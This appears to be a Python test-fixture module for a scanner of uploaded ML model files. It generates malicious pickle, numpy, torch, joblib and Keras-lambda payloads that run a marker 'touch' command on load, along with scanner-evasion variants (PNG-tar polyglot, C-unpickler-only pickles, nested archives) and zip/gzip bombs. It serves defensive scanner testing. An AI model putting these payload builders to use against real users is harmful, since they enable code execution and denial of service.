"""Builds, at test time, the files an attacker uploads to run code on whoever loads them,
and the real-world files that must still be accepted. Nothing binary is committed.

Every malicious payload runs `touch <marker>` when loaded with the loader its victim would
use (`LOADERS`); `prove_execution` loads them all in one child process and reports which
markers appeared, so the corpus can never silently stop being dangerous.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from tests.catalog import fixtures_files as ff


@dataclass(frozen=True)
class Payload:
    name: str  # the path it is uploaded as
    path: Path  # its bytes on disk
    loader: str | None  # key of LOADERS; None where the loader is not installed here
    marker: Path  # what loading it creates


class _Touch:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch {self.marker}",))


def evil_pickle(marker: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(_Touch(marker), protocol=protocol)


def _object_npy(marker: Path, dtype: object, version: tuple[int, int] = (1, 0)) -> bytes:
    """An .npy whose object field holds the payload: np.load(allow_pickle=True) unpickles it."""
    array = np.zeros(1, dtype=dtype)
    first = array.dtype.names[-1] if array.dtype.names else None
    if first is None:
        array[0] = _Touch(marker)
    elif array.dtype[first].shape:  # a subarray of objects
        array[0][first][0] = _Touch(marker)
    elif array.dtype[first].names:  # a nested field
        array[0][first][array.dtype[first].names[0]] = _Touch(marker)
    else:
        array[0][first] = _Touch(marker)
    out = io.BytesIO()
    np.lib.format.write_array(out, array, version=version, allow_pickle=True)
    return out.getvalue()


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def _tar(members: dict[str, bytes], **options: object) -> bytes:
    out = io.BytesIO()
    options = {"format": tarfile.PAX_FORMAT, **options}
    with tarfile.open(fileobj=out, mode="w", **options) as tf:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _legacy_tar_checkpoint(marker: Path) -> bytes:
    """torch's pre-1.0 tar format; the pickle member comes last, after storages and tensors."""
    return _tar(
        {
            "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
            "tensors": pickle.dumps(0, protocol=2),
            "pickle": evil_pickle(marker),
        }
    )


def _png_tar_checkpoint(marker: Path) -> bytes:
    """Starts with PNG's signature (its first member's name), and torch.load reads it as a
    legacy tar checkpoint: a scanner that stops at the first format it recognises misses it."""
    legacy = {
        "\x89PNG\r\n\x1a\n": b"",
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": evil_pickle(marker),
    }
    return _tar(legacy, format=tarfile.GNU_FORMAT, encoding="latin-1")


def _lambda_code(marker: Path) -> str:
    code = (lambda x: __import__("os").system(f"touch {marker}") or x).__code__
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_config(marker: Path | None) -> dict:
    """A Keras 3 Sequential config; with a marker, its middle layer is a Lambda."""
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
         "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}},
        {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
         "config": {"name": "dense", "units": 2, "activation": "relu"}},
    ]  # fmt: skip
    if marker is not None:
        function = {"class_name": "__lambda__", "config": {"code": _lambda_code(marker)}}
        layers.insert(1, {"module": "keras.layers", "class_name": "Lambda",
                          "registered_name": None,
                          "config": {"name": "lambda", "function": function}})  # fmt: skip
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": layers}}  # fmt: skip


def _h5(path: Path, attrs: dict[str, str]) -> bytes:
    import h5py

    with h5py.File(path, "w") as f:
        f.attrs.update(attrs)
        f.create_dataset("dense/kernel", data=np.ones((4, 2), dtype=np.float32))
    return path.read_bytes()


def keras_archive(root: Path, marker: Path | None) -> bytes:
    weights = _h5(root / f"weights-{marker is None}.h5", {})
    return _zip(
        {
            "metadata.json": json.dumps({"keras_version": "3.8.0"}).encode(),
            "config.json": json.dumps(keras_config(marker)).encode(),
            "model.weights.h5": weights,
        },
        zipfile.ZIP_STORED,
    )


def keras_h5(root: Path, marker: Path | None) -> bytes:
    """Keras 2's .h5: the architecture is the root attribute `model_config`."""
    layer = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    if marker is not None:
        layer = {"class_name": "Lambda", "config": {
            "name": "lambda", "function_type": "lambda",
            "function": [_lambda_code(marker), None, None]}}  # fmt: skip
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    attrs = {"model_config": json.dumps(config), "keras_version": "2.15.0"}
    return _h5(root / f"model-{marker is None}.h5", attrs)


def _zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def _joblib(marker: Path, compress: tuple[str, int]) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump(_Touch(marker), out, compress=compress)
    return out.getvalue()


def _gzip_twice(marker: Path) -> bytes:
    return gzip.compress(gzip.compress(evil_pickle(marker)))


def _zip_with_hidden_pickle(marker: Path) -> bytes:
    return _zip({"README.md": b"# hi\n", "notes/readme.txt": evil_pickle(marker)})


def _nested_zip(marker: Path) -> bytes:
    return _zip({"inner.zip": _zip({"model.pkl": evil_pickle(marker)})})


def _tar_gz(marker: Path) -> bytes:
    return gzip.compress(_tar({"a.txt": b"a", "w/model.bin": evil_pickle(marker)}))


def _c_parsed_protocol0(marker: Path, first: bytes) -> bytes:
    """A protocol-0 pickle opening with an argument only the C unpickler accepts (hex
    INT, NUL-terminated memo key): pickletools stops there, the real load goes on."""
    return first + evil_pickle(marker, 0)


def malicious(root: Path) -> list[Payload]:
    """Every payload of issue 12's list, and the variations of each that a scanner that
    trusts names or looks only at the first member would miss."""
    root.mkdir(parents=True, exist_ok=True)

    def m(name: str) -> Path:
        return root / f"pwned-{name.replace('/', '_')}"

    cases = {
        # name: (loader, builder)
        "model.joblib": ("joblib", lambda k: _joblib(k, ("gzip", 3))),
        "gz/model.pkl": ("joblib", lambda k: gzip.compress(evil_pickle(k))),
        "bz2/model.joblib": ("joblib", lambda k: _joblib(k, ("bz2", 3))),
        "xz/model.joblib": ("joblib", lambda k: _joblib(k, ("xz", 3))),
        "lzma/model.joblib": ("joblib", lambda k: _joblib(k, ("lzma", 3))),
        "zlib/model.joblib": ("joblib", lambda k: _joblib(k, ("zlib", 3))),
        "zstd/model.pkl.zst": ("zstd-pickle", lambda k: _zstd(evil_pickle(k))),
        "gz-gz/model.pkl.gz": ("gzip-gzip-pickle", _gzip_twice),
        "object.npy": ("numpy", lambda k: _object_npy(k, object)),
        "struct.npy": ("numpy", lambda k: _object_npy(k, "i4,O")),
        "subarray.npy": ("numpy", lambda k: _object_npy(k, [("a", "i4"), ("b", "O", (2,))])),
        "nested_v3.npy": ("numpy", lambda k: _object_npy(k, [("a", [("b", "O")])], (3, 0))),
        "weights.npz": ("npz", lambda k: _zip({"weights": _object_npy(k, "i4,O")})),
        "model.sav": ("pickle", lambda k: evil_pickle(k, 0)),
        "model.pk": ("pickle", lambda k: evil_pickle(k, 0)),
        "protocol1.bin": ("pickle", lambda k: evil_pickle(k, 1)),
        "checkpoint.pth.tar": ("torch", lambda k: evil_pickle(k, 0)),
        "notes.txt": ("pickle", lambda k: _c_parsed_protocol0(k, b"I0x10\n0")),
        "table.csv": ("pickle", lambda k: _c_parsed_protocol0(k, b"(lp0\nI1\nag0\x00,\n0")),
        "legacy.pt": ("torch", _legacy_tar_checkpoint),
        "photo.png": ("torch", _png_tar_checkpoint),
        "archive.zip": ("zip-pickle", _zip_with_hidden_pickle),
        "nested.zip": ("zip-pickle", _nested_zip),
        "bundle.tar.gz": ("tar-pickle", _tar_gz),
        "polyglot.gguf": ("pickle", ff.gguf_pickle_polyglot),
        "model.keras": (None, lambda k: keras_archive(root, k)),
        "model.h5": (None, lambda k: keras_h5(root, k)),
    }  # fmt: skip
    payloads = []
    for name, (loader, build) in cases.items():
        path = root / name.replace("/", "_")
        path.write_bytes(build(m(name)))
        payloads.append(Payload(name, path, loader, m(name)))
    return payloads


# What the victim runs; `p` is the file's path. Each is what that format's users call.
LOADERS = {
    "joblib": "import joblib; joblib.load(p)",
    "pickle": "import pickle; pickle.load(open(p, 'rb'))",
    "zstd-pickle": "import pickle, zstandard; pickle.loads(zstandard.decompress(read(p)))",
    "gzip-gzip-pickle": "import gzip, pickle; pickle.loads(gzip.decompress(gzip.open(p).read()))",
    "numpy": "import numpy as np; np.load(p, allow_pickle=True)",
    "npz": "import numpy as np; z = np.load(p, allow_pickle=True); [z[k] for k in z.files]",
    "torch": "import torch; torch.load(p, weights_only=False)",
    "zip-pickle": "walk_zip(zipfile.ZipFile(p))",
    "tar-pickle": (
        "t = tarfile.open(p)\nfor m in t.getmembers(): pickle_try(t.extractfile(m).read())"
    ),
}

_PROVER = """
import json, pickle, sys, tarfile, io, zipfile, traceback
def read(p):
    with open(p, "rb") as f: return f.read()
def pickle_try(data):
    try: pickle.loads(data)
    except Exception: pass
def walk_zip(zf):
    for name in zf.namelist():
        data = zf.read(name)
        if data[:4] == b"PK\\x03\\x04": walk_zip(zipfile.ZipFile(io.BytesIO(data)))
        else: pickle_try(data)
for loader, p in json.load(sys.stdin):
    try:
        exec(loader)
    except Exception:
        pass  # a loader may fail after the payload ran; the marker tells
"""


def prove_execution(payloads: list[Payload]) -> dict[str, bool]:
    """Load each payload with its real loader in one child process: name -> marker made."""
    jobs = [(LOADERS[p.loader], str(p.path)) for p in payloads if p.loader]
    subprocess.run(
        [sys.executable, "-c", _PROVER],
        input=json.dumps(jobs).encode(),
        capture_output=True,
        check=True,
        timeout=300,
    )
    return {p.name: p.marker.exists() for p in payloads if p.loader}


# ----------------------------------------------------------------------------- benign


def _image(fmt: str, mode: str = "RGB") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, (8, 6), (200, 30, 60)).save(out, format=fmt)
    return out.getvalue()


def _npy(array: np.ndarray, version: tuple[int, int] | None = None) -> bytes:
    out = io.BytesIO()
    np.lib.format.write_array(out, array, version=version)
    return out.getvalue()


def _npz(compressed: bool) -> bytes:
    out = io.BytesIO()
    save = np.savez_compressed if compressed else np.savez
    save(out, a=np.arange(12.0).reshape(3, 4), b=np.ones(5, dtype=np.int8))
    return out.getvalue()


def _torch(root: Path, name: str, legacy: bool) -> bytes:
    import torch

    path = root / name
    torch.save(ff.state_dict(), path, _use_new_zipfile_serialization=not legacy)
    return path.read_bytes()


def _noise(n: int) -> bytes:
    return np.random.default_rng(12).integers(0, 256, n, dtype=np.uint8).tobytes()


CONFIG = {"architectures": ["BertForSequenceClassification"], "model_type": "bert",
          "hidden_size": 8, "num_labels": 2, "id2label": {"0": "neg", "1": "pos"}}  # fmt: skip
TOKENIZER = {"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[UNK]": 0, "hi": 1}},
             "added_tokens": [], "normalizer": None, "pre_tokenizer": None}  # fmt: skip
CARD = b"---\nlicense: mit\ntags: [demo]\n---\n# Demo\n\nA benign model card.\n"
GGUF = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 4) + b"name" + bytes(40)


def benign(root: Path) -> dict[str, tuple[bytes, str]]:
    """Real-world files people publish: name -> (bytes, the scan status they must get)."""
    root.mkdir(parents=True, exist_ok=True)
    safe, unscanned = "safe", "unscanned"
    text_csv = b"text,label\nhello world,pos\nbad day,neg\n"
    tensors = ff.safetensors_file(root / "t").read_bytes()
    train_tar = _tar({"train.csv": text_csv, "a.png": _image("PNG")})
    files = {
        "model.safetensors": (ff.safetensors_file(root / "m.safetensors").read_bytes(), safe),
        "onnx/model.onnx": (ff.onnx_model(root / "m.onnx").read_bytes(), safe),
        "pytorch_model.bin": (_torch(root, "zip.bin", legacy=False), safe),
        "legacy/model.pt": (_torch(root, "legacy.pt", legacy=True), safe),
        "arrays_p2.pkl": (pickle.dumps({"w": np.arange(4.0)}, protocol=2), safe),
        "arrays_p5.pkl": (pickle.dumps({"w": np.ones((2, 2), np.float32)}, protocol=5), safe),
        "meta_p0.pkl": (pickle.dumps({"epochs": 3, "labels": ["a", "b"]}, protocol=0), safe),
        "embeddings.npy": (_npy(np.ones((3, 4), np.float32)), safe),
        "records.npy": (_npy(np.zeros(3, dtype="i4,f8")), safe),
        "v3.npy": (_npy(np.zeros(2, dtype=[("naïve", "f4")]), (3, 0)), safe),
        "arrays.npz": (_npz(compressed=False), safe),
        "arrays_compressed.npz": (_npz(compressed=True), safe),
        "config.json": (json.dumps(CONFIG).encode(), safe),
        "tokenizer.json": (json.dumps(TOKENIZER).encode(), safe),
        "special_tokens_map.json": (b'{"unk_token": "[UNK]"}', safe),
        "vocab.txt": (b"[PAD]\n[UNK]\nhello\nworld\n", safe),
        "merges.txt": (b"#version: 0.2\nh e\nl l\n", safe),
        "README.md": (CARD, safe),
        ".gitattributes": (b"*.bin filter=lfs diff=lfs merge=lfs -text\n", safe),
        "images/cat.png": (_image("PNG"), safe),
        "images/dog.jpg": (_image("JPEG"), safe),
        "images/anim.gif": (_image("GIF", "P"), safe),
        "images/bird.webp": (_image("WEBP"), safe),
        "data/train.csv": (text_csv, safe),
        "data/train.jsonl": (b'{"text": "hi", "label": 1}\n{"text": "yo", "label": 0}\n', safe),
        "data/notes.txt.gz": (gzip.compress(b"plain notes\n" * 100), safe),
        "data/notes.txt.bz2": (bz2.compress(b"plain notes\n" * 100), safe),
        "data/notes.txt.xz": (lzma.compress(b"plain notes\n" * 100), safe),
        "data/notes.txt.zst": (_zstd(b"plain notes\n" * 100), safe),
        "data/table.csv.zlib": (zlib.compress(text_csv), safe),
        "weights.tar": (_tar({"model.safetensors": tensors}), safe),
        "data/train.tar.gz": (gzip.compress(train_tar), safe),
        "images.zip": (_zip({"a/cat.png": _image("PNG"), "b/dog.jpg": _image("JPEG")}), safe),
        "keras/model.keras": (keras_archive(root, None), safe),
        "keras/model.h5": (keras_h5(root, None), safe),
        "model.gguf": (GGUF, unscanned),
        "model.tflite": (b"\x1c\x00\x00\x00TFL3" + _noise(256), unscanned),
        "weights.raw": (_noise(4096), unscanned),
    }  # fmt: skip
    return files


# -------------------------------------------------------------------------- cost attacks


def deflated_zeros(mib: int, prefix: bytes = b"") -> tuple[bytes, int, int]:
    """Raw deflate data of `prefix` + `mib` MiB of zeros, built in milliseconds (after a full
    flush identical input compresses to identical bytes); returns (data, crc32, size)."""
    block = bytes(1024 * 1024)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(prefix + block) + comp.flush(zlib.Z_FULL_FLUSH)
    repeat = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    data = first + repeat * (mib - 1) + comp.flush()
    crc = zlib.crc32(prefix)
    for _ in range(mib):
        crc = zlib.crc32(block, crc)
    return data, crc, len(prefix) + mib * 1024 * 1024


def zip_of_zeros(path: Path, names: list[str], mib: int, prefix: bytes = b"") -> Path:
    """The issue's zip bomb: each member `prefix` + `mib` MiB of zeros, deflated."""
    data, crc, size = deflated_zeros(mib, prefix)
    local, central = [], []
    offset = 0
    for name in names:
        raw = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        header = b"PK\x03\x04" + fields + struct.pack("<HH", len(raw), 0) + raw
        local.append(header + data)
        central.append(
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0, offset)
            + raw
        )
        offset += len(header) + len(data)
    directory = b"".join(central)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names),
                      len(directory), offset, 0)  # fmt: skip
    path.write_bytes(b"".join(local) + directory + end)
    return path


def gzip_of_zeros(path: Path, mib: int, prefix: bytes = b"") -> Path:
    data, crc, size = deflated_zeros(mib, prefix)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    path.write_bytes(header + data + struct.pack("<II", crc, size & 0xFFFFFFFF))
    return path
